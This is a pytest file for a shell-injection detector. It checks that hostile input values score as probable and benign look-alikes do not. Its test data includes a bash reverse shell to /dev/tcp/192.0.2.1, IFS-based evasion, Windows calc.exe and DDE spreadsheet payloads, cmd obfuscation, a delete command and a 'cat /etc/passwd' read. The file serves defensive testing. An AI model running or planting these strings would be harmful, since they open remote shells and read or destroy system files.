"""What only a shell reads."""

import pytest

from delicti.detect.contexts import PROBABLE, Context, Place
from delicti.detect.shell_marks import only_shells, quoted_inline, runs_more, windows

HERE = Context(Place.VALUE, "q")


@pytest.mark.parametrize(
    "value",
    [
        "$(cat x)",
        "bash -i >& /dev/tcp/192.0.2.1/80 0>&1",
        "cat$IFS/x",
        "while true; do ls",
        "if [ 1 -eq 1 ]; then ls",
        "id 2>&1",
        ";./x.sh",
        "1|calc.exe",
        "cm%TEMP:~0,0%d",
        "-cmd|'/C calc'!A0",
        "if exist c:\\a del c:\\a",
    ],
)
def test_a_sign_of_a_shell_is_at_least_probable(value):
    found = [reading(value, HERE, hidden=False) for reading in (only_shells, runs_more, windows)]
    assert max(verdict.confidence for verdict in found if verdict) >= PROBABLE


@pytest.mark.parametrize(
    "value", ["a < b && c > d", "for example; do it", "$(P@ss)", "see ./readme", "a|b|c", "if only == maybe", "50% off"]
)
def test_ordinary_signs_stay_below_the_mark(value):
    found = [reading(value, HERE, hidden=False) for reading in (only_shells, runs_more, windows)]
    assert max((verdict.confidence for verdict in found if verdict), default=0.0) < 0.5


def test_code_inside_a_sentence_is_told_from_a_substitution():
    assert quoted_inline("use ", "ls -la` to list files")


def test_a_path_inside_backticks_is_no_mere_code():
    assert not quoted_inline("use ", "cat /etc/passwd` to list files")
